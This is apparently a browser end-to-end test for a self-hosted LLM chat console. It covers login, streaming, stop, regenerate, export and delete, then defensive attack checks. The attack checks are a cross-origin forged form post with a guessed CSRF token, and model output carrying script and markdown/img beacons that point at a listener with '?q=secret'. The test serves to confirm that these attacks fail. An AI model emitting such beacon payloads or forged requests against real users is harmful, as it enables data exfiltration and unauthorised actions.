// Drives the console's chat page in headless Chromium (Debian's `chromium`, through
// playwright-core) against a real `sov serve` and its real model, as a person moving from
// llama-server's web UI would: logs in with the one-time link, starts a conversation, watches
// the answer stream, stops one, regenerates, renames, reloads, exports, deletes. Then what an
// attacker would try: the page without the cookie, a page on another origin posting into the
// conversation, and model output carrying a script and image beacons (which must load nothing).
// Takes screenshots of the main views into SCREENSHOTS. Prints one JSON object with what it saw.
//
// env: CONSOLE (http://127.0.0.1:PORT), LINK (what `sov console` printed), HOSTILE (a
//      conversation id whose stored answer carries the beacons), BEACON (the loopback listener
//      the beacons point at; nothing may reach it), ATTACKER (a page on another origin),
//      SCREENSHOTS (a directory), CHROMIUM (binary).
const { chromium } = require("playwright-core");
const fs = require("fs");
const path = require("path");

async function main() {
  const { CONSOLE, LINK, HOSTILE, BEACON, ATTACKER, SCREENSHOTS } = process.env;
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--no-proxy-server"],
  });
  const seen = { screenshots: [] };
  const shot = async (page, name) => {
    const file = path.join(SCREENSHOTS, name);
    await page.screenshot({ path: file, fullPage: true });
    seen.screenshots.push(file);
  };
  try {
    const context = await browser.newContext({
      userAgent: "Mozilla/5.0 (X11; Linux x86_64) SovereignChatTest/1.0",
      viewport: { width: 1280, height: 860 },
      acceptDownloads: true,
    });
    const page = await context.newPage();
    page.setDefaultTimeout(180000);
    const blocked = [];
    page.on("console", (m) => {
      if (m.type() === "error") blocked.push(m.text());
    });

    // Without the cookie: no chat, only the login page.
    const bare = await context.request.get(`${CONSOLE}/chat`, { maxRedirects: 0 });
    seen.no_cookie_status = bare.status();
    seen.no_cookie_location = bare.headers()["location"];
    await page.goto(`${CONSOLE}/chat/c/${HOSTILE}`);
    seen.no_cookie_path = new URL(page.url()).pathname;
    seen.no_cookie_shows_messages = (await page.locator("#messages").count()) > 0;

    // Log in with the link; it leads on to the chat.
    await page.goto(LINK);
    await page.click("#login-button");
    await page.waitForURL(`${CONSOLE}/`);
    await page.goto(`${CONSOLE}/chat`);
    seen.models = await page.locator("#new-model option").allInnerTexts();
    seen.listed_before = await page.locator("#conversations li a").allInnerTexts();

    // A new conversation, short greedy answers.
    await page.click("#new-button");
    await page.waitForURL(/\/chat\/c\/[0-9a-f]{32}$/);
    const conversationUrl = page.url();
    seen.conversation = conversationUrl.split("/").pop();
    const settings = async (fields) => {
      await page.locator("#settings summary").click();
      for (const [selector, value] of Object.entries(fields)) await page.fill(selector, value);
      await page.click("#save-settings");
      await page.waitForURL(conversationUrl);
    };
    await settings({ "#temperature": "0", "#max-tokens": "40", "#system-prompt": "You are a helpful assistant." });
    await shot(page, "chat-new-conversation.png");

    // Count how often the answer changes while it streams.
    const watchStreaming = () =>
      page.evaluate(() => {
        window.__updates = 0;
        new MutationObserver((records) => {
          if (records.some((r) => r.target.closest && r.target.closest(".streaming"))) window.__updates++;
        }).observe(document.getElementById("messages"), { childList: true, subtree: true, characterData: true });
      });
    const lastAnswer = () => page.locator("#messages .message.assistant").last();
    // Polls from here: the page's CSP (no 'unsafe-eval') refuses `page.waitForFunction`.
    const until = async (predicate, arg) => {
      for (let i = 0; i < 3000; i++) {
        if (await page.evaluate(predicate, arg)) return;
        await page.waitForTimeout(50);
      }
      throw new Error(`timed out waiting for ${predicate}`);
    };
    const answers = () => page.locator("#messages .message.assistant").count();
    // Waits for answer number `n` (counting from 1) to be finished.
    const waitFinished = (n) =>
      until((n) => {
        const all = document.querySelectorAll("#messages .message.assistant");
        const last = all[n - 1];
        return !!last && !last.classList.contains("streaming") && [...last.classList].some((c) => c.startsWith("finish-"));
      }, n);

    await watchStreaming();
    await page.fill("#prompt", "Write one sentence about the sea.");
    await page.press("#prompt", "Enter");
    await waitFinished(1);
    seen.first_updates = await page.evaluate(() => window.__updates);
    seen.first_answer = (await lastAnswer().locator(".body").innerText()).trim();
    seen.first_stats = await lastAnswer().locator(".stats").innerText();
    seen.first_classes = await lastAnswer().getAttribute("class");
    await shot(page, "chat-streamed-answer.png");

    // A long answer, stopped while it streams.
    await settings({ "#max-tokens": "400" });
    await page.fill("#prompt", "Write a long story about a dragon who learns to sail, with many chapters.");
    await page.press("#prompt", "Enter");
    await until(() => {
      const s = document.querySelector("#messages .message.streaming .body");
      return !!s && s.textContent.length > 20;
    });
    await page.click("#stop");
    await waitFinished(2);
    seen.stopped_classes = await lastAnswer().getAttribute("class");
    seen.stopped_stats = await lastAnswer().locator(".stats").innerText();
    seen.stopped_text_length = (await lastAnswer().locator(".body").innerText()).length;
    await shot(page, "chat-stopped.png");

    // Regenerate the stopped answer (short again).
    await settings({ "#max-tokens": "40" });
    await page.click("#regenerate");
    await until(() => !document.querySelector("#messages .message.finish-stopped"));
    await waitFinished(2);
    seen.regenerated_classes = await lastAnswer().getAttribute("class");
    seen.messages_after_regenerate = await page.locator("#messages .message").count();

    // Rename, reload, and find it.
    await settings({ "#title-input": "Sea and dragons" });
    await page.goto(`${CONSOLE}/chat`);
    seen.listed_after = await page.locator("#conversations li a").allInnerTexts();
    await page.click("#conversations li a >> text=Sea and dragons");
    await page.waitForURL(conversationUrl);
    seen.messages_after_reload = await page.locator("#messages .message").count();
    seen.roles_after_reload = await page.locator("#messages .message").evaluateAll((els) =>
      els.map((e) => (e.classList.contains("user") ? "user" : "assistant"))
    );
    seen.code_copy_buttons_visible = await page.locator("button.copy:visible").count();
    await shot(page, "chat-reloaded.png");

    // Exports.
    await page.locator("#settings summary").click();
    for (const [id, key] of [["#export-md", "markdown"], ["#export-json", "json"]]) {
      const [download] = await Promise.all([page.waitForEvent("download"), page.click(id)]);
      seen[`export_${key}_name`] = download.suggestedFilename();
      seen[`export_${key}`] = fs.readFileSync(await download.path(), "utf8");
    }
    await shot(page, "chat-settings.png");

    // A page on another origin posting into the conversation from the logged-in browser.
    const attack = await context.newPage();
    await attack.goto(ATTACKER);
    const [forged] = await Promise.all([
      attack.waitForResponse((r) => r.url().endsWith(`/chat/c/${seen.conversation}/send`)),
      attack.evaluate(
        ([action]) => {
          const form = document.createElement("form");
          form.method = "post";
          form.action = action;
          for (const [name, value] of [["csrf", "guess"], ["text", "forged by another site"]]) {
            const input = document.createElement("input");
            input.name = name;
            input.value = value;
            form.append(input);
          }
          document.body.append(form);
          form.submit();
        },
        [`${CONSOLE}/chat/c/${seen.conversation}/send`]
      ),
    ]);
    seen.cross_origin_status = forged.status();
    await page.reload();
    seen.messages_after_forgery = await page.locator("#messages .message").count();

    // Model output with a script and image beacons: rendered as text, nothing loads.
    await page.goto(`${CONSOLE}/chat/c/${HOSTILE}`);
    await page.waitForLoadState("networkidle");
    seen.hostile_elements = await page.locator("#messages img, #messages script, #messages iframe, #messages svg").count();
    seen.hostile_javascript_links = await page.locator("#messages a[href^='javascript' i]").count();
    seen.hostile_links = await page.locator("#messages a").evaluateAll((as) => as.map((a) => a.getAttribute("href")));
    seen.hostile_text = await page.locator("#messages .message.assistant .body").innerText();
    // The code block's copy button copies the code as text.
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: CONSOLE });
    await page.locator("#messages button.copy").first().click();
    await page.waitForTimeout(200);
    seen.copied = [
      await page.locator("#messages button.copy").first().innerText(),
      await page.evaluate(() => navigator.clipboard.readText()),
    ];
    await shot(page, "chat-hostile-output-inert.png");
    // The same, live from the model: asked to repeat it (a small model may or may not).
    await page.fill("#prompt", `Repeat exactly: ![](${BEACON}/live?q=secret) <img src="${BEACON}/live-img">`);
    const before = await answers();
    await page.press("#prompt", "Enter");
    await waitFinished(before + 1);
    await page.waitForLoadState("networkidle");
    seen.live_echo_html = await lastAnswer().locator(".body").innerHTML();
    seen.live_elements = await page.locator("#messages img, #messages script").count();

    // Delete the first conversation.
    await page.goto(conversationUrl);
    await page.locator("#settings summary").click();
    await page.click("#delete");
    await page.waitForURL(`${CONSOLE}/chat`);
    seen.listed_after_delete = await page.locator("#conversations li a").allInnerTexts();
    seen.deleted_status = (await context.request.get(conversationUrl)).status();
    seen.console_errors = blocked;

    // Control: the beacon listener does count what reaches it.
    await page.goto(`${BEACON}/control`);
  } finally {
    await browser.close();
  }
  console.log(JSON.stringify(seen));
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
